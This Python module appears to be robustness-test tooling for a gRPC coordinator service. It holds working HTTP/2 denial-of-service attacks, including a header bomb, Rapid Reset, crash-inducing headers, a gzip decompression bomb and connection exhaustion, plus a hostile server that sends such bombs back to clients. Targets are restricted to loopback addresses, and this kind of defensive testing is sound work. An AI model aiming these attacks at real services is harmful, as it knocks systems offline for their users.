"""What a stranger may do to a coordinator's port: bounded in time and number, towards loopback only."""
import contextlib
import functools
import select
import socket
import ssl
import struct
import threading
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
INITIAL_WINDOW_SIZE = 4
END_STREAM, END_HEADERS = 1, 4
CONNECT_S = 5.0
PROTOCOL = 5  # kProtocol in base/wire/ids.h


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(text):
    return bytes([len(text)]) + text.encode()


# Of a call of Attend, in HPACK without indexing (RFC 7541): POST, http, and four literals.
REQUEST = (b"\x83\x86\x04" + literal("/muster.v1.Rendezvous/Attend") + b"\x01" + literal("a") +
           b"\x0f\x10" + literal("application/grpc") + b"\x00" + literal("te") + literal("trailers"))


class Stranger:
    """A connection that ignores what is sent to it; `open` is false once the other side has closed it."""

    def __init__(self, address, port, source=""):
        assert address.startswith("127."), "only loopback is attacked"
        self.socket = socket.create_connection((address, port), CONNECT_S, (source, 0) if source else None)
        self.open = True

    def send(self, data):
        """Whether all of it was taken."""
        try:
            self.socket.sendall(data)
        except (ConnectionError, socket.timeout):
            self.open = False
        return self.open

    def receive_until(self, wanted):
        """All bytes up to these, or to the end; at most for CONNECT_S between two."""
        received = b""
        while wanted not in received and (more := self.socket.recv(65536)):
            received += more
        return received

    def is_closed(self):
        """Whether the other side has closed it by now."""
        ready = select.poll()  # select() takes no descriptor above 1,023
        ready.register(self.socket, select.POLLIN)
        while self.open and ready.poll(0):
            try:
                self.open = bool(self.socket.recv(65536))
            except ConnectionError:
                self.open = False
        return not self.open

    def close(self):
        self.socket.close()


def head_of_bomb(size):
    """The frame that begins a string of HPACK of so many bytes."""
    length, rest = bytes([0x7f]), size - 127  # an integer with a prefix of 7 bits
    while rest >= 128:
        length, rest = length + bytes([rest % 128 + 128]), rest // 128
    return frame(HEADERS, 0, 1, b"\x00" + length + bytes([rest]))


PIECE_OF_BOMB = frame(CONTINUATION, 0, 1, b"a" * 16384)


class HostileCoordinator:
    """Listens in a coordinator's place. `answer` answers each connection; `answered` counts those that it has answered."""

    def __init__(self, address, port, answer):
        self.answered = 0
        self.answer = answer
        self.listener = socket.create_server((address, port))
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        with contextlib.suppress(OSError):  # closed
            while True:
                connection, _ = self.listener.accept()
                connection.settimeout(CONNECT_S)
                with contextlib.closing(connection), contextlib.suppress(OSError):
                    connection.recv(1 << 16)
                    connection.sendall(frame(SETTINGS, 0, 0))
                    self.answer(connection)
                self.answered += 1

    def close(self):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()
        self.thread.join(2 * CONNECT_S)


def answer_with_headers(connection, mebibytes=16):
    """A header of many frames."""
    connection.sendall(head_of_bomb(mebibytes << 20))
    for _ in range((mebibytes << 20) // 16384):
        connection.sendall(PIECE_OF_BOMB)


def answer_as_coordinator(connection, message, *headers):
    named = b"".join(b"\x00" + literal(name) + literal(value) for name, value in (
        ("content-type", "application/grpc"), ("muster-coordinator", "0"), ("muster-instance", "0"), *headers))
    connection.sendall(frame(SETTINGS, 1, 0) + frame(HEADERS, END_HEADERS, 1, b"\x88" + named))
    send_data(Windows(connection), connection.sendall, message)
    with contextlib.suppress(socket.timeout):
        while connection.recv(1 << 16):  # until the other end has had enough
            pass


def answer_with_compression(connection):
    """Of a coordinator, with a directive that is large once it is inflated."""
    answer_as_coordinator(connection, compressed_message(), ("grpc-encoding", "gzip"))


def answer_with_a_large_round(connection, spare_bytes=200):
    """Of a coordinator, with a WAIT that tells of a round. It is as large as a message may be: an agent that stores
    the round and reports it with all else has a message that is larger."""
    epoch = field(1, 7) + field(2, 1)
    greatest = field(1, field(1, 1) + field(2, epoch)) + field(19, b"c" * ((1 << 20) - spare_bytes))
    wait = field(1, b"a reason")
    message = field(1, field(1, epoch) + field(2, 1)) + field(5, greatest) + field(6, PROTOCOL) + field(10, wait)
    connection.settimeout(1)
    answer_as_coordinator(connection, b"\0" + struct.pack(">I", len(message)) + message)


def header_bomb(address, port, mebibytes=16):
    """One string of HPACK over many CONTINUATION frames (CVE-2023-33953). Returns how many bytes were taken."""
    with contextlib.closing(Stranger(address, port)) as stranger:
        size = mebibytes << 20
        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + head_of_bomb(size))
        piece, taken = PIECE_OF_BOMB, 0
        while taken < size and stranger.send(piece) and not stranger.is_closed():
            taken += 16384
        return taken


def rapid_reset(address, port, seconds):
    """Calls that are cancelled at once (CVE-2023-44487), on new connections if one is closed. Returns their number."""
    until, resets = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        with contextlib.closing(Stranger(address, port)) as stranger:
            stranger.send(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            while time.monotonic() < until and not stranger.is_closed():
                many = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, REQUEST) +
                                frame(RESET, 0, stream + 2 * i, b"\0\0\0\x08") for i in range(100))
                if not stranger.send(many):
                    break
                stream += 200
                resets += 100
    return resets


def idle_calls(address, port, connections=1255, streams=3):
    """Connections with calls on which nothing is said."""
    calls = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, REQUEST) for i in range(streams))
    return hold(address, port, connections, PREFACE + frame(SETTINGS, 0, 0) + calls)


def hold(address, port, connections, first=b"", source=""):
    """Connections that send this, or nothing, and stay open."""
    held = []
    for _ in range(connections):
        stranger = Stranger(address, port, source)
        if first:
            stranger.send(first)
        held.append(stranger)
    return held


def endless_message(address, port, mebibytes=64):
    """A message of nearly 4 GiB, as it says, of which so much is sent. Returns how many bytes were taken."""
    with contextlib.closing(Stranger(address, port)) as stranger:
        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, REQUEST) +
                      frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
        piece, taken = frame(DATA, 0, 1, bytes(16384)), 0
        while taken < mebibytes << 20 and stranger.send(piece) and not stranger.is_closed():
            taken += 16384
        return taken


def invalid_headers(address, port):
    """Headers that make builds of gRPC abort (CVE-2023-1428): an invalid one, and more than 8 KiB in all. gRPC counts
    them only for a client that has acknowledged its settings. Returns what it answered to each."""
    path = (b"\x04" + literal("/muster.v1.Rendezvous/Attend") + b"\x01" + literal("a") + b"\x0f\x10" +
            literal("application/grpc"))
    trailers = b"\x00" + literal("te") + literal("trailers")
    much = b"\x00" + literal("x-a") + b"\x7f\xa9\x45" + b"y" * 9000
    answers = []
    for block in (b"\x83\x86" + path + b"\x00" + literal("te") + literal("x"),
                  b"\x83\x06" + literal("bogus") + path + trailers,
                  b"\x83\x86" + path + trailers + b"\x00" + literal("grpclb_client_stats") + literal("x")):
        with contextlib.closing(Stranger(address, port)) as stranger:
            stranger.send(PREFACE + frame(SETTINGS, 0, 0))
            answer = stranger.receive_until(b"\0\0\0" + bytes([SETTINGS]) + b"\1")  # it has ours, and has sent its own
            stranger.send(frame(SETTINGS, 1, 0) + frame(HEADERS, END_HEADERS, 1, block + much))
            answers.append(answer + stranger.receive_until(b"exceeds limit"))
    return answers


def stranger_hello(address, port):
    """A whole first message of TLS 1.3, of a client that knows no key, and the answer to it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    sent = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="a").do_handshake()
    except ssl.SSLWantReadError:
        pass
    with contextlib.closing(Stranger(address, port)) as stranger:
        stranger.send(sent.read())
        stranger.socket.recv(65536)


def many_fields(address, port, fields=200_000):
    """A status that contains so many empty messages (Verdict.other_failures), sent as fast as HTTP/2's windows let it.
    Returns how many bytes were taken."""
    failures = b"\x2a\x00" * fields
    status = field(30, failures) + field(35, PROTOCOL)
    message = b"\0" + struct.pack(">I", len(status)) + status
    with contextlib.closing(Stranger(address, port)) as stranger:
        windows = Windows(stranger.socket)
        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, REQUEST))
        return send_data(windows, stranger.send, message)


def first_status(address, port, status, wanted):
    """Says this and no more; returns what comes up to these bytes."""
    with contextlib.closing(Stranger(address, port)) as stranger:
        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, REQUEST) +
                      frame(DATA, 0, 1, b"\0" + struct.pack(">I", len(status)) + status))
        return stranger.receive_until(wanted)


@functools.cache
def compressed_message(mebibytes=400):
    """A message of gRPC that says of itself that it is compressed; some 400 KiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(mebibytes)) + packer.flush()
    return b"\1" + struct.pack(">I", len(packed)) + packed


def compressed_status(address, port):
    """Waits until the other side has ended the call."""
    with contextlib.closing(Stranger(address, port)) as stranger:
        encoding = b"\x00" + literal("grpc-encoding") + literal("gzip")
        windows = Windows(stranger.socket)
        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, REQUEST + encoding))
        send_data(windows, stranger.send, compressed_message())
        windows.wait_for_end()


def send_data(windows, send, message):
    """Sends it as fast as HTTP/2's windows let it. Returns how many bytes were taken."""
    taken = 0
    while taken < len(message):
        size = min(windows.room(), 16384, len(message) - taken)
        if size <= 0 or send(frame(DATA, 0, 1, message[taken:taken + size])) is False:
            break
        windows.used(size)
        taken += size
    return taken


def varint(value):
    text = b""
    while value >= 128:
        text, value = text + bytes([value % 128 + 128]), value // 128
    return text + bytes([value])


def field(number, value):
    """Of a message of protobuf: a number, or bytes."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


class Windows:
    """How much the other side takes now, on the connection and on its first stream (RFC 9113, section 5.2)."""

    def __init__(self, connection):
        self.socket = connection
        self.left = {0: 65535, 1: 65535}
        self.initial = 65535
        self.rest = b""
        self.ended = False  # the call

    def used(self, size):
        for stream in self.left:
            self.left[stream] -= size

    def room(self):
        """Waits for room. 0: the other side has closed the connection, or is silent."""
        while min(self.left.values()) <= 0 or select.select([self.socket], [], [], 0)[0]:
            if not self.receive():
                return 0
        return min(self.left.values())

    def wait_for_end(self):
        while not self.ended and self.receive():
            pass

    def receive(self):
        """Waits for frames. False: the other side has closed the connection, or is silent."""
        try:
            more = self.socket.recv(65536)
        except (ConnectionError, socket.timeout):
            return False
        self.rest += more
        self.read_frames()
        return bool(more)

    def read_frames(self):
        while len(self.rest) >= 9:
            size, kind = int.from_bytes(self.rest[:3], "big"), self.rest[3]
            if len(self.rest) < 9 + size:
                return
            stream, payload = int.from_bytes(self.rest[5:9], "big"), self.rest[9:9 + size]
            self.ended |= kind == RESET or kind == HEADERS and bool(self.rest[4] & END_STREAM)
            self.rest = self.rest[9 + size:]
            if kind == WINDOW_UPDATE and stream in self.left:
                self.left[stream] += int.from_bytes(payload, "big")
            for at in range(0, len(payload) if kind == SETTINGS else 0, 6):
                if int.from_bytes(payload[at:at + 2], "big") == INITIAL_WINDOW_SIZE:
                    value = int.from_bytes(payload[at + 2:at + 6], "big")
                    self.left[1], self.initial = self.left[1] + value - self.initial, value


def noise(address, port):
    """Other protocols, and bytes that are none."""
    hello = bytes.fromhex("16030100f8010000f40303") + bytes(range(237))
    for first in (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"\xff" * 4096, hello, hello[:20], PREFACE[:10], b"\0",
                  PREFACE + b"\x7f" * 512, PREFACE + frame(PING, 0, 0, bytes(8)) * 5000):
        with contextlib.closing(Stranger(address, port)) as stranger:
            stranger.send(first)
            stranger.is_closed()
